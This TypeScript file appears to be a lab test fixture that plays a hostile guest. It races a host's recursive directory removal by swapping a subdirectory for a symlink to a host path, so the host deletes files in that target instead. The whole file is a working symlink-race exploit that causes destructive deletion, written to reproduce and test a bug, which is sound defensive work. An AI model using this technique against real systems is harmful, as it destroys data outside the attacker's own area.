/**
 * Runs in a lab guest: the hostile guest of issue 11. Holds an image
 * directory open (its working directory), fills a subdirectory `sub` with
 * files n0..n(COUNT-1), and as soon as any of them is deleted (the host
 * removing the directory) swaps `sub` for a symlink to TARGET, a host path.
 * A host that removes by path then goes on deleting in TARGET.
 *
 *   node hostile-swap.js DIR COUNT TARGET READY_FILE
 *
 * READY_FILE gets the pid once the files are made; stdout says "swapped"
 * when the swap is done. It then stays, holding DIR, until killed.
 */
import fs from 'node:fs';

function main(): void {
  const [dir, countArg, target, ready] = process.argv.slice(2);
  const count = Number(countArg);
  process.chdir(dir);
  fs.mkdirSync('sub');
  for (let i = 0; i < count; i++) fs.writeFileSync(`sub/n${i}`, '');
  const sentinels = Array.from({ length: 64 }, (_, i) => `sub/n${Math.floor((i * count) / 64)}`);
  fs.writeFileSync(ready, String(process.pid));
  // Synchronous and tight: the walk it races takes a few hundred milliseconds.
  for (;;) {
    if (sentinels.some((s) => !fs.existsSync(s))) break;
  }
  fs.renameSync('sub', 'sub.moved');
  fs.symlinkSync(target, 'sub');
  process.stdout.write('swapped\n');
  setInterval(() => undefined, 1 << 30);
}

main();
